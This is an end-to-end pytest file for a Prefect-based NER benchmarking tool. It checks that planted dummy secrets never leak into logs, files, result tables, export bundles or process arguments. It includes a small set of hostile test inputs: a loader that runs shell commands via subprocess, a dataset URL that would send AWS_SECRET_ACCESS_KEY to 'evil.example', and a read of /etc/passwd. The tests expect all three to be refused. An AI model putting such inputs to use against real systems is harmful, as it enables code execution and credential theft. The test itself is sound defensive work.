"""Secrets planted in nine places of a team's setup do not occur in files, logs and output."""

import io
import json
import time
import zipfile
from collections.abc import Iterator
from contextlib import suppress
from pathlib import Path
from threading import Event, Thread
from typing import Any

import psutil
import pyarrow.parquet as pq
import pytest
import yaml
from prefect_site import ROOT, Site
from small_corpus import SENTENCES, TINY

from nerbench.artifacts.tables.schemas import TABLES
from nerbench.artifacts.tables.tables import read_results

pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.timeout(1800)]
PATIENCE_S = 900.0

PLANTED = {
    "PLANTED_OPTION": "planted-in/an+option",
    "PLANTED_STORAGE": "planted-in-storage-options",
    "PLANTED_SET": "planted-by-the-flag-set",
    "PLANTED_RAISED": "planted-in-an-exception",
    "AWS_SECRET_ACCESS_KEY": "planted-in-the-environment",
}
"""Variables of the worker and of the command line."""
USER, SIGNATURE, TRACKER = "planted-as-a-user", "planted-as-a-signature", "planted-for-a-tracker"
ALERT = "https://hooks.example.org/planted-for-alerts"
ALL = [*PLANTED.values(), USER, SIGNATURE, TRACKER, "planted-for-alerts"]

LOADER = f"""
import logging, os
ROWS = {[tuple(part.split() for part in line.split("|")) for line in SENTENCES] * 3!r}

def load(split, *, password, storage_options, token=None, fail=None):
    assert password == os.environ["PLANTED_OPTION"]
    assert storage_options == {{"secret": os.environ["PLANTED_STORAGE"]}}
    assert token in (None, os.environ["PLANTED_SET"])
    logging.getLogger("prefect.planted").warning("connecting with %s", password)
    if fail:
        assert fail == os.environ["PLANTED_RAISED"]
        raise ValueError(f"the server says no to {{fail}}")
    return ROWS
"""
OPTIONS = {"password": "${PLANTED_OPTION}", "storage_options": {"secret": "${PLANTED_STORAGE}"}}
DATASET = {"name": "own", "loader": "planted_corpus:load", "options": OPTIONS}
CONFIG: dict[str, Any] = {
    "datasets": [DATASET],
    "models": [{"name": "tiny", "base": TINY, "vocabulary": 200, "epochs": 1, "batch_tokens": 128}],
    "benchmark": {"speed": False, "device": "cpu"},
    "track": "mlflow",
}

HOSTILE: dict[str, dict[str, Any]] = {
    "foreign code": {"name": "own", "loader": "subprocess:check_output", "options": {"shell": True}},
    "foreign variable": {"name": "own", "files": {"test": "http://evil.example/${AWS_SECRET_ACCESS_KEY}"}},
    "foreign file": {"name": "own", "files": {"test": "/etc/passwd"}},
}


class Places:
    """Files, logs and output by name."""

    def __init__(self, site: Site) -> None:
        self.site = site
        self.said: dict[str, str] = {}
        self.arguments: set[str] = set()
        self._over = Event()
        self._watcher = Thread(target=self._watch, daemon=True)
        self._watcher.start()

    def _watch(self) -> None:
        while not self._over.is_set():
            for process in psutil.Process().children(recursive=True):
                with suppress(psutil.Error):
                    self.arguments.add("\0".join(process.cmdline()))
            time.sleep(0.5)

    def run(self, name: str, *command: str, status: int = 0, **environment: str) -> str:
        """Run a command in the worker's folder, and keep its output."""
        before = dict(self.site.env)
        self.site.env |= environment
        try:
            process = self.site.begin(*command, cwd=self.site.work)
            self.said[name] = "".join(process.communicate(timeout=PATIENCE_S))
            assert process.returncode == status, f"{self.said[name]}\n{self.site.log('worker')[-4000:]}"
        finally:
            self.site.env = before
        return self.said[name]

    def nerbench(self, name: str, *arguments: str, status: int = 0, **environment: str) -> str:
        return self.run(name, "-m", "nerbench.flows.cli", *arguments, status=status, **environment)

    def collected(self) -> dict[str, bytes]:
        """Everything, with tables and archives as their content."""
        self._over.set()
        self._watcher.join()
        work, home = self.site.work, Path(self.site.env["PREFECT_HOME"])
        kept = {name: text.encode() for name, text in self.said.items()}
        kept |= {f"log of the {name}": self.site.log(name).encode() for name in ("server", "worker")}
        kept["process arguments"] = "\n".join(self.arguments).encode()
        files = [path for path in (*(work / "var").rglob("*"), *(work / "shared").rglob("*")) if path.is_file()]
        kept |= {str(path): path.read_bytes() for path in files}
        kept |= {str(path): path.read_bytes() for path in home.rglob("*") if path.is_file()}
        for table in TABLES:
            kept[f"table {table}"] = repr(read_results(str(work / "var/results"), table).to_pylist()).encode()
        with zipfile.ZipFile(work / "shared" / "bundle.zip") as bundle:
            for name in bundle.namelist():
                data = bundle.read(name)
                rows = repr(pq.read_table(io.BytesIO(data)).to_pylist()) if name.endswith(".parquet") else ""
                kept[f"bundle {name}"] = data + rows.encode()
        return kept


@pytest.fixture(scope="module")
def places(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, bytes]]:
    """A pipeline by the API, failing runs, alerts, and all their shareable outputs."""
    site = Site(tmp_path_factory.mktemp("planted"), server={})
    shared = site.work / "shared"
    shared.mkdir()
    site.env |= PLANTED | {
        "NERBENCH_CODE": str(site.work),
        "NERBENCH_ENV": "PLANTED_OPTION,PLANTED_STORAGE,PLANTED_RAISED",
        "MLFLOW_TRACKING_URI": f"sqlite:///{shared}/mlflow.db",
        "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0",
    }
    (site.work / "planted_corpus.py").write_text(LOADER)
    (site.work / "nerbench.yaml").write_text(yaml.safe_dump(CONFIG))
    try:
        site.start_server()
        site.await_server()
        site.deploy()
        site.start_worker()
        found = Places(site)
        _use(found)
        yield found.collected()
    finally:
        site.end()


def _use(places: Places) -> None:
    places.run("alerts", str(ROOT / "deployments" / "alerts.py"), NERBENCH_ALERT_URL=ALERT)
    places.run("pipeline", "-m", "prefect", "deployment", "run", "pipeline/on-demand", "--watch")
    failing = CONFIG | {"datasets": [DATASET | {"options": OPTIONS | {"fail": "${PLANTED_RAISED}"}}]}
    asked = ("-m", "prefect", "deployment", "run", "benchmark/on-demand", "--watch", "--param")
    places.run("failing run", *asked, f"config={json.dumps(failing)}", status=1)
    for name, dataset in HOSTILE.items():
        places.run(name, *asked, f"config={json.dumps(CONFIG | {'datasets': [dataset]})}", status=1)
    places.nerbench("set", "benchmark", "tiny", "--set", "datasets.0.options.token=${PLANTED_SET}", "-v")
    raised = "datasets.0.options.fail=${PLANTED_RAISED}"
    places.nerbench("raised", "benchmark", "tiny", "--refresh", "--set", raised, status=2)
    tracker = f"http://me:{TRACKER}@127.0.0.1:9"
    places.nerbench("tracker", "benchmark", "tiny", MLFLOW_TRACKING_URI=tracker)
    (places.site.work / "refused.yaml").write_text(
        yaml.safe_dump({"datasets": [{"name": "x", "files": {"test": f"https://me:{USER}@127.0.0.1:9/x"}}]})
    )
    places.nerbench("user", "benchmark", "-c", "refused.yaml", status=2)
    (places.site.work / "refused.yaml").write_text(
        yaml.safe_dump({"datasets": [{"name": "x", "files": {"test": f"https://h/x?X-Amz-Signature={SIGNATURE}"}}]})
    )
    places.nerbench("signature", "benchmark", "-c", "refused.yaml", status=2)
    places.nerbench("report", "report", "-o", "shared/page.html")
    places.nerbench("bundle", "results", "export", "--bundle", "shared/bundle.zip")
    places.nerbench("card", "publish", "tiny@latest", "--to", "org/tiny", "--dry-run")
    places.nerbench("show", "results", "show", "--json")


@pytest.mark.parametrize("secret", ALL)
def test_a_planted_secret_is_found_nowhere(places: dict[str, bytes], secret: str) -> None:
    assert [place for place, said in places.items() if secret.encode() in said] == []


@pytest.mark.legitimate
def test_the_searched_places_contain_the_names(places: dict[str, bytes]) -> None:
    """Each secret was used: its name, or the refusal, is in place of its value."""
    (database,) = [said for place, said in places.items() if place.endswith("prefect.db")]
    assert b"the server says no to ${PLANTED_RAISED}" in places["raised"]
    assert b"the server says no to ${PLANTED_RAISED}" in database
    assert b"connecting with ${PLANTED_OPTION}" in places["log of the worker"]
    assert b'"password":"${PLANTED_OPTION}"' in places["table runs"]
    assert b'"token":"${PLANTED_SET}"' in places["table runs"]
    assert b"nerbench-alert" in database
    assert b"user information" in places["user"]
    assert b"X-Amz-Signature" in places["signature"]
    assert b"MLflow" in places["tracker"]
    assert b"mlflow.db" in b"".join(place.encode() for place in places)
    for shared in ("bundle tables/runs.parquet", "bundle environment.json"):
        assert b"PLANTED_OPTION" not in places[shared], "options are not shared, not even by name"
        assert b"password" in places[shared]
    assert b"subprocess.py, outside the code that may be loaded" in database
    assert b"${AWS_SECRET_ACCESS_KEY} may not be used in the parameters of a run" in database
    assert b"'/etc/passwd' cannot be named in the parameters of a run" in database
    assert any("prefect.engine" in arguments for arguments in places["process arguments"].decode().split("\n"))
